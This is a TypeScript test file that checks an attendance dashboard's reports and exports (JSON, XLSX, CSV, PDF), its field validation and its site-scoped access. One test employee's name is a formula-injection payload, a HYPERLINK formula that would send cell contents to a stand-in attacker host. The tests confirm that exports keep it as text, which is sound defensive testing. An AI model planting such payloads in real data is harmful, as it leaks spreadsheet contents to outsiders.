import { execFileSync } from 'node:child_process';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { XLSX_HEADER_ROW } from '../../dashboard/reports/export/index.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startAttendanceDashboard, type AttendanceDashboard, type Json } from '../support/attendance-dashboard.js';

/**
 * Reports and exports through the real dashboard: the daily report with exceptions marked, the
 * monthly report as XLSX read back with exceljs, the payroll export as CSV with the columns asked
 * for (and a name that looks like a formula kept as text), the PDF's text in Traditional Chinese
 * (pdftotext), and late-arrival hotspots; each refused by field when asked wrongly.
 */

const NOW = new Date('2026-12-10T04:00:00.000Z');

function requirePoppler(): void {
  try {
    execFileSync('pdftotext', ['-v'], { stdio: 'ignore' });
  } catch {
    throw new Error('pdftotext is missing: install poppler-utils (scripts/ensure-test-packages.sh does)');
  }
}

describe('attendance reports and exports', () => {
  let setup: AttendanceDashboard;
  let dir: string;
  const api: AttendanceDashboard['api'] = (...args) => setup.api(...args);

  beforeAll(async () => {
    dir = await mkdtemp(path.join(tmpdir(), 'punchgate-reports-'));
    setup = await startAttendanceDashboard(NOW, [
      { number: 'E001', name: 'Chan Tai Man', nameZh: '陳大文', site: 'mk-01' },
      { number: 'E002', name: '=HYPERLINK("http://evil.example/?x="&A1)', nameZh: '黃嘉欣', site: 'mk-01' },
      { number: 'E003', name: 'Lee Siu Ming', nameZh: '李小明', site: 'tst-02', department: 'security' },
    ]);
    expect((await api('PUT', '/shifts/day', { name: 'Day', nameZh: '日更', kind: 'fixed', segments: [{ start: '09:00', end: '18:00' }], breaks: [{ start: '13:00', end: '14:00' }] })).status).toBe(200);
    expect((await api('PUT', '/schedules/all', { appliesTo: { everyone: true }, validFrom: '2026-01-01', pattern: { kind: 'weekly', days: { mon: 'day', tue: 'day', wed: 'day', thu: 'day', fri: 'day', sat: null, sun: null } } })).status).toBe(200);
    const { badge } = setup;
    await setup.store([
      // Mon 23rd: E001 on time, E002 late 12 min, E003 on time at TST.
      badge('E001', '2026-11-23 08:55'), badge('E001', '2026-11-23 18:00'),
      badge('E002', '2026-11-23 09:12'), badge('E002', '2026-11-23 18:05'),
      badge('E003', '2026-11-23 08:59', 'tst-02'), badge('E003', '2026-11-23 18:30', 'tst-02'),
      // Tue 24th: E001 late 3 (the 09:00-09:05 bucket), E002 missed the out, E003 absent.
      badge('E001', '2026-11-24 09:03'), badge('E001', '2026-11-24 19:00'),
      badge('E002', '2026-11-24 08:40'),
    ]);
    expect((await api('POST', '/leave', { employeeNumber: 'E001', type: 'annual', from: '2026-11-25', to: '2026-11-25' })).status).toBe(201);
  }, 60_000);

  afterAll(async () => {
    await setup?.stop();
    await rm(dir, { recursive: true, force: true });
  });

  it('daily report as JSON: one row per person per day, exceptions marked, statuses in both languages', async () => {
    const daily = await api('GET', '/reports/daily?from=2026-11-23&to=2026-11-24&siteId=mk-01');
    expect(daily.status).toBe(200);
    const rows = daily.body.rows.map((row: Json) => [row.cells.employeeNumber, row.cells.date, row.cells.firstIn, row.cells.lastOut, row.cells.lateMinutes, row.cells.status, row.emphasis]);
    expect(rows).toEqual([
      ['E001', '2026-11-23', '08:55', '18:00', 0, 'Normal 正常', 'normal'],
      ['E001', '2026-11-24', '09:03', '19:00', 3, 'Late 遲到', 'exception'],
      ['E002', '2026-11-23', '09:12', '18:05', 12, 'Late 遲到', 'exception'],
      ['E002', '2026-11-24', '08:40', null, 0, 'Missed punch 缺卡', 'exception'],
    ]);
    const zh = await api('GET', '/reports/daily?from=2026-11-23&to=2026-11-23&employeeNumber=E002&lang=zh-HK');
    expect(zh.body.rows[0].cells).toMatchObject({ status: '遲到', shift: '日更', nameZh: '黃嘉欣' });
  });

  it('monthly report as XLSX: read back with exceljs, numbers as numbers, Chinese names intact, exceptions highlighted', async () => {
    const response = await api('GET', '/reports/monthly?month=2026-11&format=xlsx');
    expect(response.status).toBe(200);
    expect(response.headers['content-type']).toContain('spreadsheetml');
    expect(String(response.headers['content-disposition'])).toContain('attendance-monthly-2026-11.xlsx');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(response.raw as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    const header = (sheet.getRow(XLSX_HEADER_ROW).values as unknown[]).slice(1).map(String);
    const column = (name: string) => header.findIndex((text) => text.startsWith(name)) + 1;
    const rowOf = (number: string) => {
      for (let index = XLSX_HEADER_ROW + 1; index <= sheet.rowCount; index += 1) if (sheet.getRow(index).getCell(1).value === number) return sheet.getRow(index);
      throw new Error(`no row for ${number}`);
    };
    const e001 = rowOf('E001');
    expect(e001.getCell(column('Chinese name')).value).toBe('陳大文');
    expect(e001.getCell(column('Late (times)')).value).toBe(1);
    expect(e001.getCell(column('Leave days')).value).toBe(1);
    expect(typeof e001.getCell(column('Worked hours')).value).toBe('number');
    const e003 = rowOf('E003');
    expect(e003.getCell(column('Absent days')).value).toBeGreaterThanOrEqual(1);
    // The person with exceptions is filled; the text of the cells says it too (not colour alone).
    expect(JSON.stringify(e003.getCell(1).fill ?? {})).not.toBe('{}');
    // E002's name begins with "=": stored as text, never a formula.
    const e002 = rowOf('E002');
    expect(e002.getCell(column('Name')).formula).toBeUndefined();
    expect(String(e002.getCell(column('Name')).value).startsWith("'=")).toBe(true);
  });

  it('payroll export as CSV with the columns payroll asked for, in that order; a formula-like name is neutralised', async () => {
    const response = await api('GET', '/reports/payroll?month=2026-11&columns=lateMinutes,workedHours,absenceDays&format=csv&lang=en');
    expect(response.status).toBe(200);
    expect(response.raw.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const rows = parse(response.raw.toString('utf8').slice(1)) as string[][];
    expect(rows[0]).toEqual(['Employee no.', 'Name', 'Chinese name', 'Department', 'Late (min)', 'Worked hours', 'Absent days']);
    const e002 = rows.find((row) => row[0] === 'E002')!;
    expect(e002[1]).toBe('\'=HYPERLINK("http://evil.example/?x="&A1)');
    expect(e002[4]).toBe('12');
    const json = await api('GET', '/reports/payroll?month=2026-11');
    expect(json.body.columns.map((column: Json) => column.key)).toContain('annualLeaveDays');
    expect(json.body.rows.find((row: Json) => row.cells.employeeNumber === 'E001').cells.annualLeaveDays).toBe(1);
  });

  it('PDF: the text holds the Traditional Chinese names and headers (pdftotext)', async () => {
    requirePoppler();
    const response = await api('GET', '/reports/monthly?month=2026-11&format=pdf&lang=both');
    expect(response.status).toBe(200);
    expect(response.raw.subarray(0, 5).toString()).toBe('%PDF-');
    const file = path.join(dir, 'monthly.pdf');
    await writeFile(file, response.raw);
    const text = execFileSync('pdftotext', ['-layout', file, '-'], { encoding: 'utf8' });
    // Headers may wrap inside their column; titles and names do not.
    for (const expected of ['陳大文', '黃嘉欣', '李小明', '每月考勤', 'Monthly attendance']) expect(text).toContain(expected);
  });

  it('late-arrival hotspots: arrivals per bucket around the shift start, per site, as JSON and PDF', async () => {
    const response = await api('GET', '/reports/hotspots?from=2026-11-23&to=2026-11-24&bucketMinutes=15');
    expect(response.status).toBe(200);
    const mk = response.body.hotspots.find((hotspot: Json) => hotspot.siteId === 'mk-01');
    expect(mk).toMatchObject({ shiftStart: '09:00', arrivals: 4, late: 2 });
    const counts = Object.fromEntries(mk.histogram.buckets.map((bucket: Json) => [bucket.label, bucket.count]));
    expect(counts).toEqual({ '08:30': 1, '08:45': 1, '09:00': 2, '09:15': 0, '09:30': 0, '09:45': 0 });
    expect(response.body.hotspots.map((hotspot: Json) => hotspot.siteId)).toEqual(['mk-01', 'tst-02']);
    const scoped = await api('GET', '/reports/hotspots?from=2026-11-23&to=2026-11-24', undefined, 'mgr-tst');
    expect(scoped.body.hotspots.map((hotspot: Json) => hotspot.siteId)).toEqual(['tst-02']);
    requirePoppler();
    const pdf = await api('GET', '/reports/hotspots?from=2026-11-23&to=2026-11-24&format=pdf&lang=zh-HK');
    const file = path.join(dir, 'hotspots.pdf');
    await writeFile(file, pdf.raw);
    expect(execFileSync('pdftotext', [file, '-'], { encoding: 'utf8' })).toContain('遲到熱點');
  });

  it('refuses what it cannot answer, naming the field; store managers see only their sites; facilities none', async () => {
    expect((await api('GET', '/reports/monthly?month=2026-13')).body.issues[0]).toMatchObject({ field: 'month' });
    expect((await api('GET', '/reports/payroll?month=2026-11&columns=salary')).body.issues[0]).toMatchObject({ field: 'columns', message: expect.stringContaining('workedHours') });
    expect((await api('GET', '/reports/daily?from=2026-11-23&to=2026-11-24&format=docx')).body.issues[0]).toMatchObject({ field: 'format' });
    expect((await api('GET', '/reports/daily?from=2026-11-24&to=2026-11-23')).body.issues[0]).toMatchObject({ field: 'to' });
    expect((await api('GET', '/reports/hotspots?from=2026-11-23&to=2026-11-24&bucketMinutes=0')).body.issues[0]).toMatchObject({ field: 'bucketMinutes' });
    expect((await api('GET', '/reports/monthly?month=2026-11&siteId=mk-01', undefined, 'mgr-tst')).status).toBe(403);
    const own = await api('GET', '/reports/monthly?month=2026-11', undefined, 'mgr-tst');
    expect(own.body.rows.map((row: Json) => row.cells.employeeNumber)).toEqual(['E003']);
    expect((await api('GET', '/reports/monthly?month=2026-11', undefined, 'facilities')).status).toBe(403);
  });
});
